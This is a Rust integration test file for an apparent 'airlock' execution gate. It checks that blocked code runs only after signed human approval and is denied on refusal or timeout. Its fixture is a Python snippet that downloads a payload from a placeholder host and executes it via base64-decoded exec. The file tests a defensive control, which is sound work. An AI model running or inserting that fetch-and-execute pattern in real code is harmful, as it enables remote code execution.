//! BLOCKED code waits for a human: it runs only after a signed approval, and ends denied when a
//! human denies it or nobody answers before the deadline.

use airlock_protocol::EventKind;
use airlock_tests::{Stack, events_of, finish_run as finish, http_get, trace_ids_of};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// External code that downloads and executes a payload: BLOCKED by the assessor.
const BLOCKED: &str = "import base64, urllib.request\n\
payload = urllib.request.urlopen('http://example.invalid/p').read()\n\
exec(base64.b64decode(payload))\n\
print('ran')\n";

fn submit_in_background(stack: &Stack, name: &str) -> Child {
    let dir = stack.path().join("programs");
    std::fs::create_dir_all(&dir).expect("dir");
    let file = dir.join(name);
    std::fs::write(&file, BLOCKED).expect("program");
    let mut command: Command = stack.airlock();
    command
        .args(["run", "--json", "--origin", "external"])
        .arg(&file)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("airlock run")
}

/// Waits until exactly one more request is pending and returns its id.
fn wait_pending(stack: &Stack, known: &[String]) -> String {
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(60) {
        let out = stack.output(&["override", "list", "--json"]);
        if out.status.success() {
            let list: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
            for item in list.as_array().cloned().unwrap_or_default() {
                let id = item["request_id"].as_str().unwrap_or_default().to_owned();
                if !known.contains(&id) {
                    assert_eq!(item["level"], "BLOCKED", "{item}");
                    assert!(item["findings"].as_array().is_some_and(|f| !f.is_empty()), "{item}");
                    assert!(item["deadline_ms"].as_i64().is_some(), "{item}");
                    return id;
                }
            }
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    panic!("no request became pending:\n{}", stack.diagnostics());
}

#[tokio::test(flavor = "multi_thread")]
async fn blocked_code_runs_only_after_approval_and_ends_denied_otherwise() {
    let stack = tokio::task::spawn_blocking(|| Stack::start_with("[gate]\noverride_timeout_secs = 8\n"))
        .await
        .expect("stack");

    // Approved: it waits, nothing runs before the answer, then it runs.
    let child = submit_in_background(&stack, "approve.py");
    let id = wait_pending(&stack, &[]);
    std::thread::sleep(Duration::from_secs(1));
    let before = events_of(&stack, &id).await;
    assert!(
        !before.iter().any(|e| e.kind() == EventKind::ExecStarted),
        "ran before approval"
    );
    let out = stack.output(&[
        "override",
        "approve",
        &id,
        "--reason",
        "reviewed by the test",
        "--who",
        "tester",
    ]);
    assert!(
        out.status.success(),
        "approve failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (json, _) = finish(child);
    assert_eq!(json["request_id"], id.as_str());
    assert_eq!(json["verdict"], "BLOCKED");
    assert_eq!(json["decision"], "approved", "{json}");
    assert_eq!(json["approver"]["by"], "human", "{json}");
    assert_eq!(json["approver"]["who"], "tester", "{json}");
    // It ran (and failed: the sandbox has no network, so the download raises).
    assert_eq!(json["outcome"], "finished", "{json}");
    assert!(
        json["stderr"].as_str().unwrap_or_default().contains("URLError"),
        "{json}"
    );

    // Denied by a human.
    let child = submit_in_background(&stack, "deny.py");
    let denied_id = wait_pending(&stack, std::slice::from_ref(&id));
    let out = stack.output(&[
        "override",
        "deny",
        &denied_id,
        "--reason",
        "no downloads",
        "--who",
        "tester",
    ]);
    assert!(
        out.status.success(),
        "deny failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (json, status) = finish(child);
    assert_eq!(status, 4, "{json}");
    assert_eq!(json["decision"], "denied", "{json}");
    assert_eq!(json["exit_code"], serde_json::Value::Null);
    let events = events_of(&stack, &denied_id).await;
    assert!(
        !events.iter().any(|e| e.kind() == EventKind::ExecStarted),
        "a denied request ran"
    );

    // Nobody answers: denied at the deadline.
    let child = submit_in_background(&stack, "ignored.py");
    let ignored_id = wait_pending(&stack, &[id.clone(), denied_id.clone()]);
    let (json, status) = finish(child);
    assert_eq!(status, 4, "{json}");
    assert_eq!(json["decision"], "denied", "{json}");
    assert!(
        json["reason"].as_str().unwrap_or_default().contains("deadline"),
        "{json}"
    );
    let events = events_of(&stack, &ignored_id).await;
    assert!(
        !events.iter().any(|e| e.kind() == EventKind::ExecStarted),
        "an unanswered request ran"
    );
    assert_eq!(events.iter().filter(|e| e.kind() == EventKind::Terminal).count(), 1);
    // The denial at the deadline, decided outside any message, still joins the request's trace.
    let traces = trace_ids_of(&stack, &ignored_id).await;
    let first = traces.first().expect("events").1.clone();
    assert!(
        !first.is_empty() && traces.iter().all(|(_, t)| *t == first),
        "{traces:?}"
    );

    // Approval health, read back from the signed log: three prompts, one approved and one
    // denied by the same person, one expired.
    let out = stack.output(&["override", "stats", "--json", "--since", "1h"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let stats: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON stats");
    let figures = ["prompts", "by_humans", "approved", "denied", "expired", "by_policy"].map(|k| stats[k].clone());
    assert_eq!(figures, [3, 2, 1, 1, 1, 0].map(serde_json::Value::from), "{stats}");
    assert_eq!(stats["time_to_first_answer"]["count"], 2, "{stats}");
    assert_eq!(stats["time_to_decision"]["count"], 3, "{stats}");
    let tester = &stats["approvers"]["tester"];
    assert_eq!(
        (&tester["approved"], &tester["denied"]),
        (&1.into(), &1.into()),
        "{stats}"
    );
    // The longest wait for a decision is the one nobody answered: the whole 8 s timeout.
    assert!(
        stats["time_to_decision"]["max_ms"].as_i64().unwrap_or_default() >= 7_000,
        "{stats}"
    );
    let out = stack.output(&["override", "stats", "--since", "1h"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success() && text.contains("people asked"), "{text}");
    assert!(text.contains("approved 1 (50%), denied 1 (50%)"), "{text}");

    // The gate's histogram of people's answer times has the approval and the denial.
    let status = stack.output(&["status", "--json"]);
    let report: serde_json::Value = serde_json::from_slice(&status.stdout).expect("status --json");
    let url = report["services"]["airlock-override-gate"][0]["metrics"]
        .as_str()
        .expect("the gate serves metrics")
        .to_owned();
    let scraped = http_get(&url);
    for outcome in ["approved", "denied"] {
        assert!(
            scraped
                .lines()
                .any(|l| l.starts_with("airlock_overrides_answer_time_seconds_count")
                    && l.contains(&format!("outcome=\"{outcome}\""))
                    && l.ends_with(" 1")),
            "no {outcome} answer time in:\n{scraped}"
        );
    }
}

/// `airlock override list` shows each waiting request's code (its first lines, numbered) and
/// every finding, not only those the explanation names; answers that are usage mistakes (a blank
/// reason or name, a request that is not waiting, an id that is not one) exit 2 and send nothing.
#[tokio::test(flavor = "multi_thread")]
async fn list_shows_the_code_and_every_finding_and_bad_answers_exit_2() {
    let stack = tokio::task::spawn_blocking(|| Stack::start_with("[gate]\noverride_timeout = \"120s\"\n"))
        .await
        .expect("stack");
    let child = submit_in_background(&stack, "shown.py");
    let id = wait_pending(&stack, &[]);

    let out = stack.output(&["override", "list", "--json"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let list: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON list");
    let item = list
        .as_array()
        .and_then(|l| l.iter().find(|i| i["request_id"] == id.as_str()))
        .cloned()
        .expect("the request is listed");
    let findings = item["findings"].as_array().cloned().unwrap_or_default();
    assert!(!findings.is_empty(), "{item}");

    let out = stack.output(&["override", "list"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        text.contains(&id) && text.contains("BLOCKED") && text.contains("shown.py"),
        "{text}"
    );
    assert!(text.contains("left to answer"), "{text}");
    assert!(text.contains("1 | import base64, urllib.request\n"), "{text}");
    assert!(text.contains("3 | exec(base64.b64decode(payload))\n"), "{text}");
    assert!(text.contains(&format!("findings ({}):", findings.len())), "{text}");
    for finding in &findings {
        let rule = finding["rule_id"].as_str().expect("rule id");
        let line = format!(
            "line {}  {}  {rule}",
            finding["line"],
            finding["severity"].as_str().unwrap_or_default()
        );
        assert!(text.contains(&line), "{line} not shown:\n{text}");
    }

    let unknown = airlock_protocol::RequestId::new_for("mai").unwrap().to_string();
    let mistakes: [&[&str]; 9] = [
        &["override", "approve", &id, "--reason", ""],
        &["override", "approve", &id, "--reason", "   "],
        &["override", "deny", &id, "--reason", ""],
        &["override", "deny", &id, "--reason", " \t "],
        &["override", "approve", &id, "--reason", "fine", "--who", ""],
        &["override", "approve", &id],
        &["override", "approve", &unknown, "--reason", "fine"],
        &["override", "deny", &unknown, "--reason", "no"],
        &["override", "approve", "not-a-request-id", "--reason", "fine"],
    ];
    for args in mistakes {
        let out = stack.output(args);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(
            out.stdout.is_empty(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        assert!(!stderr.trim().is_empty(), "{args:?} says nothing");
    }
    let out = stack.output(&["override", "approve", &id, "--reason", "  "]);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("needs a reason"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // Nothing was sent: the request still waits, with no answer on record.
    let out = stack.output(&["override", "list", "--json"]);
    let list: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON list");
    let item = list
        .as_array()
        .and_then(|l| l.iter().find(|i| i["request_id"] == id.as_str()))
        .cloned()
        .expect("still pending");
    assert!(item["approved_by"].as_array().is_none_or(|a| a.is_empty()), "{item}");
    let events = events_of(&stack, &id).await;
    assert!(
        !events.iter().any(|e| matches!(
            e.kind(),
            EventKind::OverrideAnswered | EventKind::Decided | EventKind::Refused
        )),
        "{:?}",
        events.iter().map(|e| e.kind()).collect::<Vec<_>>()
    );

    let out = stack.output(&["override", "deny", &id, "--reason", "no downloads", "--who", "tester"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let (json, status) = finish(child);
    assert_eq!(status, 4, "{json}");
    assert_eq!(json["decision"], "denied", "{json}");
    // Decided: answering it again is answering a request that is not waiting.
    let out = stack.output(&["override", "approve", &id, "--reason", "too late"]);
    assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stderr));
}
